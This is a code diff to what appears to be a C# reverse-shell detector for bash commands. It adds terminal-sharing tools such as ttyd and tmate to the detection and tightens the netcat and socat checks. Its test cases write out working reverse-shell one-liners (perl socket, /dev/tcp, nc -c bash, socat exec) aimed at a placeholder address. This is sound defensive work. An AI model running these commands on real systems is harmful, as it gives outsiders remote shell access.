@@ -22,6 +22,7 @@ internal static class ExecReverseShell
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,1);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
             "sh -i 5<> /dev/tcp/1.2.3.4/4444 0<&5 1>&5 2>&5",
             "nc 1.2.3.4 4444 -c bash",
+            "ttyd bash",
             "socat exec:'bash -li',pty tcp:1.2.3.4:4444",
         ],
         Passes =
@@ -32,7 +33,7 @@ internal static class ExecReverseShell
             "nc -vz host 22",
             "echo hi | nc h 80",
             "socat - TCP:h:80",
-            "nc -e 2>/dev/null --help",
+            "nc --help",
             "python3 -c \"import socket; print(socket.gethostname())\"",
         ],
         Judge = Judge,
@@ -47,9 +48,11 @@ internal static class ExecReverseShell
             case "socat":
                 foreach (var argument in at.Arguments)
                 {
-                    if (argument.Shown.Contains("EXEC:", StringComparison.OrdinalIgnoreCase) || argument.Shown.Contains("SYSTEM:", StringComparison.OrdinalIgnoreCase) || argument.Shown.Contains("SHELL:", StringComparison.OrdinalIgnoreCase)) return BashFinding.Plain;
+                    if (argument.Shown.Contains("EXEC:", StringComparison.OrdinalIgnoreCase) || argument.Shown.Contains("SYSTEM:", StringComparison.OrdinalIgnoreCase) || argument.Shown.StartsWith("SHELL", StringComparison.OrdinalIgnoreCase)) return BashFinding.Plain;
                 }
                 return FedByShell(at);
+            case "ttyd" or "gotty" or "tmate" or "upterm" or "sshx" or "webssh":
+                return at.AsksForHelp || at.HasArgument("-v") ? null : BashFinding.Plain;
             case "telnet" or "openssl":
                 return at.Name == "telnet" || at.Argument(0) is "s_client" ? FedByShell(at) : null;
             case "xterm" or "rxvt":
@@ -68,7 +71,7 @@ internal static class ExecReverseShell
             if (at.Invocation.Output == OutputKind.Network && ShellTools.IsShell(at.Name)) return BashFinding.Plain;
             foreach (var source in at.Invocation.Input.From)
             {
-                if (ShellTools.IsShell(at.Name) && source.Name is "nc" or "ncat" or "netcat" or "telnet" or "socat") return BashFinding.Plain;
+                if (ShellTools.IsShell(at.Name) && source.Name is "nc" or "ncat" or "netcat" or "telnet" or "socat" && (SourceTools.Adds(at.Of(source)) & OriginKinds.Network) != 0) return BashFinding.Plain;
             }
         }
         if (at.Invocation.Program is { HasUnknown: true } program)
@@ -91,7 +94,18 @@ internal static class ExecReverseShell
     {
         if (at.AsksForHelp || at.HasArgument("-h")) return false;
         var given = OptionReader.Read(at.Arguments, s_nc);
-        return given.Value("-e", "--exec") is not null || given.Value("-c", "--sh-exec") is not null || given.Has("--lua-exec");
+        return Runs(given.Value("-e", "--exec")) || Runs(given.Value("-c", "--sh-exec")) || given.Has("--lua-exec");
+    }
+
+    /// <summary>Anything but a small program that only prints.</summary>
+    private static bool Runs(Word? command)
+    {
+        if (command is null) return false;
+        var text = command.Shown.AsSpan().TrimStart();
+        var space = text.IndexOf(' ');
+        var program = space < 0 ? text : text[..space];
+        program = program[(program.LastIndexOf('/') + 1)..];
+        return program is not ("cat" or "echo" or "printf" or "date" or "true" or "hostname" or "uptime" or "uname") || text.IndexOfAny(";|&") >= 0;
     }
 
     /// <summary>What a shell prints goes over the network, and the shell was not given its commands here.</summary>
